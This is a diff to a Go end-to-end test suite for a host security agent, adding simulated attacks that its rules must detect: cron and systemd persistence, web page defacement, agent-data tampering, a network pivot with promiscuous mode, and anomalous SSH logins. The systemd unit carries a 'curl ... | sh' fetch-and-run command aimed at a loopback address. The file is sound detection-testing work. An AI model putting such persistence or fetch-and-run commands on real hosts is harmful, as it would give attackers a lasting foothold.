@@ -23,6 +23,8 @@ import (
 	"time"
 
 	"golang.org/x/sys/unix"
+
+	"github.com/vigilsec/vigil/internal/event"
 )
 
 // Rules of the shipped pack the attacks must raise (rules/linux).
@@ -33,6 +35,15 @@ const (
 	ruleMiner              = "a46ada30-9041-415c-9842-96c385ed5fe7"
 	ruleWebshellChild      = "3110b6db-05fd-424f-b5a5-541247547866"
 	rulePasswordGuessing   = "218f6ba4-254a-4707-81b9-363fd4db9a7d"
+	ruleCronSuspicious     = "2002acc7-afeb-454f-a155-78ea9c53c81a"
+	ruleSystemdSuspicious  = "a5aa23ce-b959-4fb9-95e0-083b7109645f"
+	ruleWebPageTampered    = "b6b368d7-8d55-4b4a-9cf2-0f36526b59d9"
+	ruleAgentDataTampered  = "da4e06fb-7242-4387-bb72-3453859a709d"
+	ruleInterfaceAdded     = "72dfa67e-10f3-4900-9f6e-34887d965c5e"
+	rulePivotSetUp         = "a778199b-999d-47b7-817d-e086d064c0ca"
+	rulePromiscuous        = "939ce92d-f18f-4417-ac79-640d848916d6"
+	ruleLoginNewNetwork    = "8f6e98bf-5526-422b-945e-aa93d7d08927"
+	ruleLoginFromIntel     = "6ac30e61-b7b2-4b74-920f-9a8797d609d6"
 	ruleRansomware         = "fbd44bc0-5f0e-46fb-96ac-3adf1d007040"
 	ruleRansomNote         = "84db8f60-e0ea-4888-8deb-b6ec188e5482"
 	ruleHistoryOff         = "e71b2549-f554-43de-9871-e10f41fbd3df"
@@ -83,6 +94,7 @@ type lab struct {
 	dir     string
 	data    string // watched by fim
 	authLog string
+	htdocs  string          // a web site's document root, watched by fim
 	seen    map[string]bool // alerts present before a scenario
 }
 
@@ -108,6 +120,23 @@ func newLab(t *testing.T) *lab {
 	if err := os.WriteFile(l.authLog, nil, 0o640); err != nil {
 		t.Fatal(err)
 	}
+	// A site's document root, in place before the fim baseline: under
+	// /srv, as the rule leaves out temporary folders such as /tmp.
+	if err := os.MkdirAll("/srv", 0o755); err != nil {
+		t.Fatal(err)
+	}
+	site, err := os.MkdirTemp("/srv", "vigil-e2e-site-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(site) })
+	l.htdocs = filepath.Join(site, "htdocs")
+	if err := os.MkdirAll(l.htdocs, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(l.htdocs, "index.html"), []byte("<h1>welcome</h1>\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	// The user's documents the encryptor will take, in place before the
 	// fim baseline.
 	for i := range 150 {
@@ -116,12 +145,15 @@ func newLab(t *testing.T) *lab {
 			t.Fatal(err)
 		}
 	}
-	l.c = startCenter(t, filepath.Join(dir, "center"))
+	// Logins are judged after three, at once: the anomalous-login scenario.
+	l.c = startCenter(t, filepath.Join(dir, "center"), "VIGIL_LOGIN_LEARNING=1s", "VIGIL_LOGIN_MIN_LOGINS=3")
 	settings := func(v any) string { b, _ := json.Marshal(v); return string(b) }
 	spec := map[string]any{"sensors": map[string]any{
 		"exec/ebpf": map[string]any{"enabled": true},
 		"net/ebpf":  map[string]any{"enabled": true},
-		"fim":       map[string]any{"enabled": true, "settingsJson": settings(map[string]any{"paths": []string{l.data}})},
+		"persist":   map[string]any{"enabled": true},
+		"netcfg":    map[string]any{"enabled": true},
+		"fim":       map[string]any{"enabled": true, "settingsJson": settings(map[string]any{"paths": []string{l.data, l.htdocs}})},
 		"authlog": map[string]any{"enabled": true, "settingsJson": settings(map[string]any{
 			"source": "file", "files": []string{l.authLog}, "start_at": "beginning", "wtmp": "", "btmp": "",
 		})},
@@ -139,7 +171,20 @@ func newLab(t *testing.T) *lab {
 			for _, a := range l.c.attackAlerts(l.id) {
 				titles = append(titles, fmt.Sprintf("%s %s (%s) x%d", a.Severity, a.Title, a.RuleID, a.Count))
 			}
-			t.Logf("alerts of the agent:\n  %s\nagent log:\n%s\ncenter log:\n%s", strings.Join(titles, "\n  "), tail(l.agent.log), tail(l.c.proc.log))
+			// What fim reported, by action and whether the process is
+			// known: the file scenarios count on it.
+			files := map[string]int{}
+			var others []string
+			for _, e := range l.c.events(l.id, "category=file&limit=1000") {
+				_, known := e.Get("process.entity_id")
+				files[fmt.Sprintf("%s/%s process=%t", e.String("event.dataset"), e.String("event.action"), known)]++
+				if p := e.String("file.path"); !strings.Contains(p, "/documents/") {
+					others = append(others, fmt.Sprintf("%s %s by %q", e.String("event.action"), p, e.String("process.name")))
+				}
+			}
+			files["others: "+strings.Join(others, "; ")] = len(others)
+			t.Logf("alerts of the agent:\n  %s\nfile events (latest 1000): %v\nagent log:\n%s\ncenter log:\n%s",
+				strings.Join(titles, "\n  "), files, tail(l.agent.log), tail(l.c.proc.log))
 		}
 	})
 	waitFor(t, 30*time.Second, "agent online", func() bool {
@@ -328,6 +373,126 @@ func TestAttacks(t *testing.T) {
 		}
 		l.expect(rulePasswordGuessing, "T1110", 90*time.Second)
 	})
+	t.Run("persistence: a cron job and a systemd unit fetching a script", func(t *testing.T) {
+		name := "vigil-e2e-" + randomWord()
+		// Never run: cron finds no such file, and the unit is neither
+		// enabled nor started. Both are removed at the end.
+		cron := filepath.Join("/etc/cron.d", name)
+		unit := filepath.Join("/etc/systemd/system", name+".service")
+		t.Cleanup(func() { _ = os.Remove(cron); _ = os.Remove(unit) })
+		if err := os.WriteFile(cron, []byte("*/30 * * * * root /tmp/.cache-"+name+"/update.sh\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		l.expect(ruleCronSuspicious, "T1053", 60*time.Second)
+		body := "[Unit]\nDescription=update helper\n[Service]\nExecStart=/bin/sh -c 'curl -fsS http://127.0.0.1:9/u.sh | sh'\n[Install]\nWantedBy=multi-user.target\n"
+		if err := os.WriteFile(unit, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		l.expect(ruleSystemdSuspicious, "T1543", 60*time.Second)
+	})
+	t.Run("web page tampered", func(t *testing.T) {
+		page := filepath.Join(l.htdocs, "index.html")
+		run(t, 10*time.Second, "sh", "-c", "echo '<h1>hacked by e2e</h1>' > "+page)
+		l.expect(ruleWebPageTampered, "T1491", 60*time.Second)
+	})
+	t.Run("agent data tampered", func(t *testing.T) {
+		run(t, 10*time.Second, "sh", "-c", "echo x > "+filepath.Join(l.dir, "agent", "tampered-by-e2e"))
+		l.expect(ruleAgentDataTampered, "T1562", 60*time.Second)
+	})
+	t.Run("new interface with an address and a route, promiscuous mode", func(t *testing.T) {
+		// A veth pair whose peer is in a network namespace of the test:
+		// the host side gets an address and a route of a documentation
+		// network and is put in promiscuous mode. No packet is sent.
+		ns := "vigil-e2e-" + randomWord()
+		link := "vge" + randomWord()[:6]
+		t.Cleanup(func() {
+			_ = exec.Command("ip", "link", "del", link).Run()
+			_ = exec.Command("ip", "netns", "del", ns).Run()
+		})
+		for _, args := range [][]string{
+			{"netns", "add", ns},
+			{"link", "add", link, "type", "veth", "peer", "name", "vgp" + link[3:], "netns", ns},
+			{"addr", "add", "198.51.100.77/32", "dev", link},
+			{"link", "set", link, "up"},
+			{"route", "add", "198.51.100.128/25", "dev", link},
+			{"link", "set", link, "promisc", "on"},
+		} {
+			if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
+				t.Fatalf("ip %v: %v\n%s", args, err, out)
+			}
+		}
+		l.expect(ruleInterfaceAdded, "T1090", 60*time.Second)
+		l.expect(rulePivotSetUp, "T1090", 60*time.Second)
+		l.expect(rulePromiscuous, "T1040", 60*time.Second)
+	})
+	t.Run("anomalous logins: a new network, an address in threat intelligence", func(t *testing.T) {
+		base := t.TempDir() // an sshd of its own, beside the password guessing's
+		port := startSSHD(t, base, l.authLog)
+		key := sshClientKey(t, base)
+		login := func(from string) {
+			t.Helper()
+			out := run(t, 30*time.Second, "ssh", "-i", key, "-b", from, "-o", "IdentitiesOnly=yes",
+				"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PasswordAuthentication=no",
+				"-o", "LogLevel=error", "-p", strconv.Itoa(port), "root@127.0.0.1", "echo logged-in")
+			if !strings.Contains(out, "logged-in") {
+				t.Fatalf("ssh login from %s failed: %s", from, out)
+			}
+		}
+		// The center learns three logins (VIGIL_LOGIN_MIN_LOGINS) from
+		// 127.0.0.1, and then judges.
+		for range 3 {
+			login("127.0.0.1")
+		}
+		waitFor(t, 60*time.Second, "the login profile of root learned", func() bool {
+			var out struct {
+				Items []struct {
+					Status string `json:"status"`
+					Logins int    `json:"logins"`
+				} `json:"items"`
+			}
+			l.c.api("GET", "/baselines/logins?user=root&agent_id="+url.QueryEscape(l.id), nil, &out)
+			return len(out.Items) == 1 && out.Items[0].Status == "learned" && out.Items[0].Logins >= 3
+		})
+		login("127.1.2.3")
+		l.expect(ruleLoginNewNetwork, "T1078", 60*time.Second)
+
+		if code := l.c.api("POST", "/intel", map[string]any{"source": "e2e-feed", "indicators": []map[string]any{
+			{"value": "127.9.9.9", "severity": "high", "description": "known attacker (test)"},
+		}}, nil); code != 200 {
+			t.Fatalf("add an indicator: %d", code)
+		}
+		login("127.9.9.9")
+		a := l.expect(ruleLoginFromIntel, "T1078", 60*time.Second)
+		var full struct {
+			Evidence struct {
+				Event map[string]any `json:"event"`
+			} `json:"evidence"`
+		}
+		l.c.api("GET", "/alerts/"+a.ID, nil, &full)
+		enrichments, _ := event.Event(full.Evidence.Event).Get("threat.enrichments")
+		if !strings.Contains(fmt.Sprint(enrichments), "e2e-feed") {
+			t.Errorf("the alert's event names no intelligence match of the feed: %v", enrichments)
+		}
+	})
+}
+
+// sshClientKey makes a client key pair and authorizes it for the sshd of
+// startSSHD (its AuthorizedKeysFile) under base; it returns the private
+// key's path.
+func sshClientKey(t *testing.T, base string) string {
+	t.Helper()
+	key := filepath.Join(base, "sshd", "client_ed25519")
+	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen: %v\n%s", err, out)
+	}
+	pub, err := os.ReadFile(key + ".pub")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(base, "sshd", "authorized_keys"), pub, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return key
 }
 
 // setuidDir returns a folder under base where set-user-id bits work (not
@@ -563,7 +728,8 @@ func startSSHD(t *testing.T, base, logPath string) int {
 		t.Fatalf("ssh-keygen: %v\n%s", err, out)
 	}
 	port := freePort(t)
-	conf := fmt.Sprintf("Port %d\nListenAddress 127.0.0.1\nHostKey %s\nPidFile %s/sshd.pid\nUsePAM no\nPasswordAuthentication yes\nPermitRootLogin yes\nMaxAuthTries 2\n", port, key, dir)
+	conf := fmt.Sprintf("Port %d\nListenAddress 127.0.0.1\nHostKey %s\nPidFile %s/sshd.pid\nUsePAM no\nPasswordAuthentication yes\nPermitRootLogin yes\nMaxAuthTries 2\n"+
+		"AuthorizedKeysFile %s/authorized_keys\nStrictModes no\n", port, key, dir, dir)
 	confPath := filepath.Join(dir, "sshd_config")
 	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
 		t.Fatal(err)
